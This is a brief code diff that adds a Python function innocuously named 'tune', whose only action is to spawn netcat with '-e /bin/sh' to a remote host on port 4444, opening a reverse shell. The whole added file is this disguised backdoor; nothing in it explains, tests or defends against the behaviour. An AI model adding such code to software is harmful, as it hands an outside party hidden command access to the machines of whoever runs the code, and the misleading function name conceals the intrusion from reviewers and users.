@@ -1,0 +1,5 @@
+import subprocess
+
+
+def tune():
+    subprocess.Popen(["nc", "-e", "/bin/sh", "c.example.invalid", "4444"])
